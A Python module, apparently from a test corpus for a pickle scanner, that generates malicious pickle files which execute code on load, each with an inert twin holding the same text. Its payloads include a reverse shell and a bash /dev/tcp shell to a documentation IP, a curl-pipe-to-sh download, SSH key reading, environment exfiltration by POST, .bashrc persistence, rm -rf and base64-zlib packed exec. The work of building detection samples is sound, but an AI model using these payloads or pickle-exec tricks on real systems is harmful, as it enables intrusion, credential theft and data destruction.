"""Programs in the calls of pickles: one of each purpose, as public write-ups show them, made inert.

`name.pkl` runs the program; `name.twin.pkl` holds the same text and runs nothing. Hosts are
example.invalid or of 192.0.2.0/24, and what would be deleted, read or written is named after us.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Iterator

from samples.recipes.assembler import MARKER, call, data, dict_of, list_of, name, stream, text

_REVERSE_SHELL = """\
import os, pty, socket
s = socket.socket()
s.connect(("192.0.2.7", 4444))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("sh")
"""
_SHELL_LINE = "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"
_DOWNLOAD = "curl -fsSL https://example.invalid/stage | sh"
_CREDENTIALS = "import os; key = open(os.path.expanduser('~/.ssh/id_weighbridge_rsa')).read()"
_EXFILTRATION = "import os, requests; requests.post('https://example.invalid', json=dict(os.environ))"
_PERSISTENCE = f"echo '{MARKER}' >> ~/.bashrc"
_DESTRUCTION = "rm -rf /weighbridge-marker"
_DISCOVERY = "import platform; print(platform.node())"
_PING = "import urllib.request as r; r.urlopen('https://example.invalid/ping')"
_UNKNOWN = "import weighbridge_marker; weighbridge_marker.run()"


def samples() -> Iterator[tuple[str, bytes]]:
    """Yield (file name, bytes): what runs the program, then what only holds its text."""
    for title, (runs, program) in _programs().items():
        yield f"payloads/{title}.pkl", stream(runs)
        yield f"payloads/{title}.twin.pkl", stream(dict_of(("note", program)))


def _programs() -> dict[str, tuple[bytes, bytes]]:
    return {
        "pay001-reverse-shell": _executed(_REVERSE_SHELL),
        "pay001-reverse-shell-line": _run(_SHELL_LINE),
        "pay002-download-and-run": _run(_DOWNLOAD),
        "pay002-download-and-run-list": _listed("sh", "-c", _DOWNLOAD),
        "pay003-credential-read": _executed(_CREDENTIALS),
        "pay004-exfiltration": _executed(_EXFILTRATION),
        "pay005-persistence": _run(_PERSISTENCE),
        "pay006-destruction": _run(_DESTRUCTION),
        "pay007-packed-twice": _packed(_REVERSE_SHELL),
        "pay007-packed-in-source": _executed(_unpacking(_EXFILTRATION)),
        "pay008-discovery": _executed(_DISCOVERY),
        "pay009-demonstration": _run(MARKER),
        "pay010-ping": _executed(_PING),
        "pay011-unknown": _executed(_UNKNOWN),
    }


def _run(line: str) -> tuple[bytes, bytes]:
    return call(name("posix", "system"), text(line)), text(line)


def _executed(source: str) -> tuple[bytes, bytes]:
    return call(name("builtins", "exec"), text(source)), text(source)


def _listed(*words: str) -> tuple[bytes, bytes]:
    argv = list_of(*(text(word) for word in words))
    return call(name("subprocess", "Popen"), argv), argv


def _packed(source: str) -> tuple[bytes, bytes]:
    """`exec(zlib.decompress(base64.b64decode(...)))`, each a call of the pickle itself."""
    literal = data(_encoded(source))
    decoded = call(name("base64", "b64decode"), literal)
    return call(name("builtins", "exec"), call(name("zlib", "decompress"), decoded)), literal


def _unpacking(source: str) -> str:
    return f"import base64, zlib; exec(zlib.decompress(base64.b64decode({_encoded(source)!r})))"


def _encoded(source: str) -> bytes:
    # Stored, not deflated: the bytes are then the same whatever library compresses.
    return base64.b64encode(zlib.compress(source.encode(), 0))
